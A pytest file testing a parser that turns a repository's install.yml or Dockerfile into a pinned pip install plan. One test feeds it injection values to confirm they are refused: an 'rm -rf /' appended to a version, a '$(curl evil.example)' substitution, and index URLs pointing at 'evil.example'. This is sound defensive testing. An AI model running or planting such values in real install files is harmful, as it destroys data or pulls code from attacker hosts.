"""Reading a hub repository's declared environment: `install.yml` and older Dockerfiles,
in the shapes the real repositories have (eos3b5e, eos-template) and the ways they go
wrong."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from precalc_assets.models.dockerfile import DOCKERFILE
from precalc_assets.models.install_plan import read_install_plan
from precalc_assets.models.install_yml import INSTALL_YML
from precalc_assets.models.pip_installs import InstallPlan, PipInstall
from precalc_assets.models.spec import ModelError

MODEL = "eos3b5e"
# The hub's template repository's install.yml as published (python, pip, conda, pip, pip).
TEMPLATE_INSTALL_YML = """\
python: "3.12"
commands:
    - ["pip", "rdkit-pypi", "2022.3.1b1"]
    - ["conda", "pandas", "1.3.5", "default"]
    - ["pip", "numpy", "1.26.4"]
    - ["pip", "ersilia-pack-utils", "0.1.5"]
"""
# eos3b5e's Dockerfile as published.
EOS3B5E_DOCKERFILE = """\
FROM bentoml/model-server:0.11.0-py310

RUN pip install numpy==1.26.4
RUN pip install rdkit==2022.9.5

WORKDIR /repo
COPY . /repo
"""


def repo_with(tmp_path: Path, name: str, text: str) -> Path:
    repo = tmp_path / "repo"
    repo.mkdir(parents=True, exist_ok=True)
    (repo / name).write_text(textwrap.dedent(text), encoding="utf-8")
    return repo


def yml(tmp_path: Path, text: str, python_version: str | None = None) -> InstallPlan:
    return read_install_plan(repo_with(tmp_path, INSTALL_YML, text), MODEL, python_version)


def docker(tmp_path: Path, text: str, python_version: str | None = None) -> InstallPlan:
    return read_install_plan(repo_with(tmp_path, DOCKERFILE, text), MODEL, python_version)


def refused(read, tmp_path: Path, text: str) -> str:
    with pytest.raises(ModelError) as caught:
        read(tmp_path, text)
    message = str(caught.value)
    assert message.startswith(f"model '{MODEL}': ")
    return message


def requirements(plan: InstallPlan) -> list[tuple[str, ...]]:
    return [install.requirements for install in plan.installs]


# install.yml


def test_install_yml_pins_git_extras_and_options_in_order(tmp_path: Path) -> None:
    plan = yml(
        tmp_path,
        """\
        python: "3.10"
        commands:
            - ["pip", "pandas", "2.1.4"]
            - ["pip", "torch", "2.4.1", "--index-url", "https://download.pytorch.org/whl/cpu"]
            - ["pip", "git+https://github.com/example/x.git@v1.0"]
            - ["pip", "molfeat[transformer]", "0.10.0"]
            - ["pip", "scipy", "1.11.4", "--no-deps", "--no-cache-dir", "--pre"]
        """,
    )
    assert plan.python == "3.10"
    assert plan.source == str(tmp_path / "repo" / INSTALL_YML)
    assert plan.installs == (
        PipInstall(("pandas==2.1.4",), (), 'install.yml entry 1 ["pip", "pandas", "2.1.4"]'),
        PipInstall(
            ("torch==2.4.1",),
            ("--index-url", "https://download.pytorch.org/whl/cpu"),
            'install.yml entry 2 ["pip", "torch", "2.4.1", "--index-url", '
            '"https://download.pytorch.org/whl/cpu"]',
        ),
        PipInstall(
            ("git+https://github.com/example/x.git@v1.0",),
            (),
            'install.yml entry 3 ["pip", "git+https://github.com/example/x.git@v1.0"]',
        ),
        PipInstall(
            ("molfeat[transformer]==0.10.0",),
            (),
            'install.yml entry 4 ["pip", "molfeat[transformer]", "0.10.0"]',
        ),
        PipInstall(
            ("scipy==1.11.4",),
            ("--no-deps", "--pre"),  # --no-cache-dir changes nothing installed: dropped
            'install.yml entry 5 ["pip", "scipy", "1.11.4", "--no-deps", "--no-cache-dir", '
            '"--pre"]',
        ),
    )
    assert plan.warnings == ()


def test_install_yml_unpinned_and_unpinned_git_are_warned(tmp_path: Path) -> None:
    plan = yml(
        tmp_path,
        """\
        python: "3.11"
        commands:
            - ["pip", "joblib", ""]
            - ["pip", "git+https://github.com/example/x.git"]
        """,
    )
    assert requirements(plan) == [("joblib",), ("git+https://github.com/example/x.git",)]
    assert len(plan.warnings) == 2
    assert "entry 1" in plan.warnings[0] and "joblib is not pinned" in plan.warnings[0]
    assert "entry 2" in plan.warnings[1] and "not pinned to a commit" in plan.warnings[1]


def test_install_yml_string_entries_are_read_like_pip_commands(tmp_path: Path) -> None:
    plan = yml(
        tmp_path,
        """\
        python: "3.11"
        commands:
            - "pip install six==1.16.0 --index-url https://example.org/simple -q"
            - "python -m pip install 'numpy==1.26.4' rdkit==2022.9.5"
        """,
    )
    assert plan.installs == (
        PipInstall(
            ("six==1.16.0",),
            ("--index-url", "https://example.org/simple"),
            'install.yml entry 1 "pip install six==1.16.0 --index-url '
            'https://example.org/simple -q"',
        ),
        PipInstall(
            ("numpy==1.26.4", "rdkit==2022.9.5"),
            (),
            "install.yml entry 2 \"python -m pip install 'numpy==1.26.4' rdkit==2022.9.5\"",
        ),
    )


def test_install_yml_float_python_is_refused_saying_to_quote_it(tmp_path: Path) -> None:
    message = refused(yml, tmp_path, 'python: 3.10\ncommands:\n  - ["pip", "six", "1.16.0"]\n')
    assert str(tmp_path / "repo" / INSTALL_YML) in message
    assert "the number 3.1" in message and 'python: "3.10"' in message


def test_install_yml_number_version_is_refused_saying_to_quote_it(tmp_path: Path) -> None:
    message = refused(yml, tmp_path, 'python: "3.11"\ncommands:\n  - ["pip", "numpy", 1.10]\n')
    assert "entry 1" in message and "YAML number" in message and "quote it" in message


def test_the_templates_install_yml_gives_the_conda_error_naming_entry_2(tmp_path: Path) -> None:
    message = refused(yml, tmp_path, TEMPLATE_INSTALL_YML)
    assert 'entry 2 ["conda", "pandas", "1.3.5", "default"]' in message
    assert "pip environments only" in message
    assert f"conda create -p /opt/envs/{MODEL} python=3.12" in message
    assert f'"python": "/opt/envs/{MODEL}/bin/python"' in message
    assert "models file" in message


def test_a_conda_string_entry_gives_the_conda_error(tmp_path: Path) -> None:
    text = 'python: "3.11"\ncommands:\n  - "conda install -c conda-forge rdkit=2022.09.5 -y"\n'
    message = refused(yml, tmp_path, text)
    assert "entry 1" in message and "pip environments only" in message


@pytest.mark.parametrize(
    "entry",
    [
        '["apt-get", "install", "-y", "git"]',
        '{"pip": "six"}',
        "[]",
        '"wget https://example.org/weights.bin"',
        '["pip"]',
    ],
)
def test_an_entry_of_unknown_form_is_refused_listing_the_forms(tmp_path: Path, entry: str) -> None:
    text = f'python: "3.11"\ncommands:\n  - ["pip", "six", "1.16.0"]\n  - {entry}\n'
    message = refused(yml, tmp_path, text)
    assert "entry 2 of unknown form" in message
    assert '["pip", name, version' in message and "accepted forms" in message


def test_a_two_element_entry_that_is_not_git_must_include_a_version(tmp_path: Path) -> None:
    message = refused(yml, tmp_path, 'python: "3.10"\ncommands:\n  - ["pip", "pandas"]\n')
    assert 'entry 1 ["pip", "pandas"] must include a version' in message


@pytest.mark.parametrize(
    "entry",
    [
        '["pip", "six --index-url http://evil.example/simple", "1.16.0"]',
        '["pip", "six", "1.16.0 --index-url=http://evil.example"]',
        '["pip", "six", "1.16.0; rm -rf /"]',
        '["pip", "six", ">=1.0"]',
        '["pip", "-r", "requirements.txt"]',
        '["pip", "--index-url=http://evil.example", "1.0"]',
        '["pip", "six", "1.16.0", "--index-url", "http://a b"]',
        '["pip", "six", "1.16.0", "--target", "/usr/lib"]',
        '["pip", "six", "1.16.0", "requests==2.0"]',
        '["pip", "git+https://github.com/x/y.git --upgrade"]',
        '"pip install six==1.16.0 $(curl evil.example)"',
    ],
)
def test_nothing_can_smuggle_another_pip_argument(tmp_path: Path, entry: str) -> None:
    text = f'python: "3.11"\ncommands:\n  - {entry}\n'
    message = refused(yml, tmp_path, text)
    assert "entry 1" in message


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ('python: "3.11"\ncommands:\n\t- ["pip", "six", "1.16.0"]\n', "is not valid YAML (line 3"),
        ('python: "3.11"\ncommands:\n  - ["pip", "six", "1.16.0"\n', "is not valid YAML (line"),
        ("just some words\n", "not a mapping"),
        ("", "is empty"),
        ('commands:\n  - ["pip", "six", "1.16.0"]\n', "has no `python`"),
        ('python: "3.11"\n', "has no `commands`"),
        ('python: "3.11"\ncommands: pip install six\n', "not a list"),
        ('python: "three"\ncommands: []\n', 'must be a version string like "3.12"'),
    ],
)
def test_a_broken_install_yml_is_refused_naming_the_file(
    tmp_path: Path, text: str, expected: str
) -> None:
    message = refused(yml, tmp_path, text)
    assert str(tmp_path / "repo" / INSTALL_YML) in message
    assert expected in message


def test_install_yml_is_preferred_over_the_dockerfile(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, DOCKERFILE, EOS3B5E_DOCKERFILE)
    repo_with(tmp_path, INSTALL_YML, 'python: "3.12"\ncommands:\n  - ["pip", "six", "1.16.0"]\n')
    plan = read_install_plan(repo, MODEL)
    assert plan.python == "3.12" and requirements(plan) == [("six==1.16.0",)]
    assert plan.source.endswith(INSTALL_YML)


# Dockerfile


def test_the_eos3b5e_dockerfile(tmp_path: Path) -> None:
    plan = docker(tmp_path, EOS3B5E_DOCKERFILE)
    assert plan.python == "3.10"
    assert plan.installs == (
        PipInstall(("numpy==1.26.4",), (), "Dockerfile line 3: RUN pip install numpy==1.26.4"),
        PipInstall(("rdkit==2022.9.5",), (), "Dockerfile line 4: RUN pip install rdkit==2022.9.5"),
    )
    assert plan.source == str(tmp_path / "repo" / DOCKERFILE)
    assert plan.warnings == ()


@pytest.mark.parametrize(
    ("from_line", "python"),
    [
        ("FROM bentoml/model-server:0.11.0-py39", "3.9"),
        ("FROM bentoml/model-server:0.11.0-py311", "3.11"),
        ("FROM ersiliaos/base:v2-py3.10", "3.10"),
        ("FROM python:3.11-slim", "3.11"),
        ("FROM --platform=linux/amd64 docker.io/library/python:3.12.4 AS base", "3.12"),
    ],
)
def test_the_python_version_comes_from_the_from_line(
    tmp_path: Path, from_line: str, python: str
) -> None:
    assert docker(tmp_path, f"{from_line}\nRUN pip install six==1.16.0\n").python == python


def test_continuations_chains_and_pip_spellings(tmp_path: Path) -> None:
    plan = docker(
        tmp_path,
        """\
        FROM bentoml/model-server:0.11.0-py310
        # a comment
        RUN apt-get update && apt-get install -y libxrender1 && \\
            pip install --no-cache-dir -q -U \\
                numpy==1.26.4 \\
                # a comment inside the continuation
                "molfeat[transformer]==0.10.0" && \\
            python -m pip install torch==2.4.1 -i https://download.pytorch.org/whl/cpu ; \\
            python3 -m pip install --progress-bar off --root-user-action=ignore --no-deps x==1.0
        RUN pip3 install --extra-index-url=https://example.org/simple \\
            -f https://example.org/links --pre y==2.0 > /dev/null 2>&1
        RUN ["pip", "install", "z==3.0"]
        """,
    )
    assert plan.python == "3.10"
    assert [(i.requirements, i.options) for i in plan.installs] == [
        (("numpy==1.26.4", "molfeat[transformer]==0.10.0"), ()),
        (("torch==2.4.1",), ("--index-url", "https://download.pytorch.org/whl/cpu")),
        (("x==1.0",), ("--no-deps",)),
        (
            ("y==2.0",),
            (
                "--extra-index-url",
                "https://example.org/simple",
                "--find-links",
                "https://example.org/links",
                "--pre",
            ),
        ),
        (("z==3.0",), ()),
    ]
    assert plan.installs[1].where == (
        "Dockerfile line 3: RUN python -m pip install torch==2.4.1 -i "
        "https://download.pytorch.org/whl/cpu"
    )
    assert plan.installs[3].where.startswith("Dockerfile line 10: RUN pip3 install")
    # The apt-get commands are not reproduced: said, naming the line.
    assert len(plan.warnings) == 2
    assert all(w.startswith("Dockerfile line 3: `apt-get") for w in plan.warnings)
    assert "not reproduced" in plan.warnings[1]


def test_an_unpinned_spec_is_allowed_with_a_warning(tmp_path: Path) -> None:
    plan = docker(
        tmp_path,
        """\
        FROM python:3.11
        RUN pip install rdkit "pandas>=2,<3" git+https://github.com/example/x.git@0123abc
        """,
    )
    assert requirements(plan) == [
        ("rdkit", "pandas>=2,<3", "git+https://github.com/example/x.git@0123abc")
    ]
    assert len(plan.warnings) == 2
    assert all("Dockerfile line 2" in w and "is not pinned" in w for w in plan.warnings)


@pytest.mark.parametrize(
    ("run", "expected"),
    [
        ("RUN pip install -r requirements.txt", "a requirements file"),
        ("RUN pip install -e .", "editable"),
        ("RUN pip install .", "a local path"),
        ("RUN pip install x==1 --target /opt/x", "does not know the pip option '--target'"),
        ("RUN pip install x==1 $EXTRA", "shell expansion"),
        ("RUN pip install --upgrade", "names no package"),
        ("RUN pip install 'x==1", "cannot be read as a shell command"),
        ("RUN conda install -c conda-forge rdkit=2022.09.5", "pip environments only"),
        ("RUN apt-get update && mamba install -y rdkit", "pip environments only"),
    ],
)
def test_what_cannot_be_reproduced_is_refused(tmp_path: Path, run: str, expected: str) -> None:
    message = refused(docker, tmp_path, f"FROM python:3.11\n{run}\n")
    assert str(tmp_path / "repo" / DOCKERFILE) in message and "line 2" in message
    assert expected in message


def test_a_requirements_file_is_refused_with_the_fix(tmp_path: Path) -> None:
    message = refused(docker, tmp_path, "FROM python:3.11\nRUN pip install -r requirements.txt\n")
    assert "write the pins themselves" in message and '"python"' in message


def test_a_dockerfile_without_pip_is_an_empty_environment_with_a_warning(tmp_path: Path) -> None:
    plan = docker(tmp_path, "FROM python:3.11-slim\nRUN apt-get update\nCOPY . /repo\n")
    assert plan.installs == ()
    assert any("line 2: `apt-get update` is not reproduced" in w for w in plan.warnings)
    assert any("has no pip install" in w for w in plan.warnings)


def test_no_python_version_in_the_dockerfile(tmp_path: Path) -> None:
    text = "FROM ubuntu:22.04\nRUN pip install six==1.16.0\n"
    message = refused(docker, tmp_path, text)
    assert str(tmp_path / "repo" / DOCKERFILE) in message
    assert "line 1: FROM ubuntu:22.04" in message and '"python_version"' in message
    # The deployment's python_version makes it readable.
    assert docker(tmp_path, text, python_version="3.11").python == "3.11"


# Both, neither, and the key


def test_neither_file(tmp_path: Path) -> None:
    (tmp_path / "repo").mkdir()
    with pytest.raises(ModelError) as caught:
        read_install_plan(tmp_path / "repo", MODEL)
    message = str(caught.value)
    assert message.startswith(f"model '{MODEL}': ")
    assert "neither install.yml nor Dockerfile" in message
    assert '"python": "/path/to/env/bin/python"' in message


def test_python_version_overrides_the_files(tmp_path: Path) -> None:
    assert docker(tmp_path / "a", EOS3B5E_DOCKERFILE, python_version="3.12").python == "3.12"
    # Even a file whose own python is unusable.
    unusable = "python: 3.10\ncommands: []\n"
    assert yml(tmp_path / "b", unusable, python_version="3.11").python == "3.11"
    for bad in ("3", "3.10.4", "py3.10", " 3.10", "3.10; x"):
        with pytest.raises(ModelError, match='"python_version" .* must be a major.minor'):
            docker(tmp_path / "a", EOS3B5E_DOCKERFILE, python_version=bad)


def test_the_key_is_the_pins_not_where_they_were_read(tmp_path: Path) -> None:
    same_yml = yml(
        tmp_path / "a",
        """\
        python: "3.10"
        commands:
            - ["pip", "numpy", "1.26.4"]
            - ["pip", "rdkit", "2022.9.5"]
        """,
    )
    from_docker = docker(tmp_path / "b", EOS3B5E_DOCKERFILE)
    assert same_yml.source != from_docker.source
    assert same_yml.installs[0].where != from_docker.installs[0].where
    key = from_docker.key()
    assert len(key) == 16 and int(key, 16) >= 0
    assert same_yml.key() == key
    assert docker(tmp_path / "c", EOS3B5E_DOCKERFILE, python_version="3.11").key() != key
    other_pin = EOS3B5E_DOCKERFILE.replace("2022.9.5", "2023.9.1")
    assert docker(tmp_path / "d", other_pin).key() != key
    # Both pins in one pip command is another environment-building sequence.
    joined = "FROM python:3.10\nRUN pip install numpy==1.26.4 rdkit==2022.9.5\n"
    assert docker(tmp_path / "e", joined).key() != key
    with_option = EOS3B5E_DOCKERFILE.replace("numpy==1.26.4", "numpy==1.26.4 --no-deps")
    assert docker(tmp_path / "f", with_option).key() != key


def test_credentials_in_index_urls_stay_out_of_messages(tmp_path: Path) -> None:
    url = "https://user:s3cret@pypi.example.org/simple"
    plan = docker(tmp_path / "a", f"FROM python:3.11\nRUN pip install six --index-url {url}\n")
    assert plan.installs[0].options == ("--index-url", url)  # pip needs them
    assert "s3cret" not in plan.installs[0].where and "s3cret" not in " ".join(plan.warnings)
    text = f'python: "3.11"\ncommands:\n  - ["pip", "six", "1.16.0", "-i", "{url}", "--bad"]\n'
    message = refused(yml, tmp_path / "b", text)
    assert "--bad" in message and "s3cret" not in message


def test_pip_settings_and_heredocs_in_a_dockerfile_are_warned(tmp_path: Path) -> None:
    plan = docker(
        tmp_path,
        """\
        FROM python:3.11
        ENV PIP_INDEX_URL=https://example.org/simple
        RUN <<EOF
        pip install six==1.16.0
        EOF
        """,
    )
    assert plan.installs == ()
    assert any(w.startswith("Dockerfile line 2: ENV PIP_INDEX_URL") for w in plan.warnings)
    assert any(w.startswith("Dockerfile line 4: `PIP` is not") for w in plan.warnings)
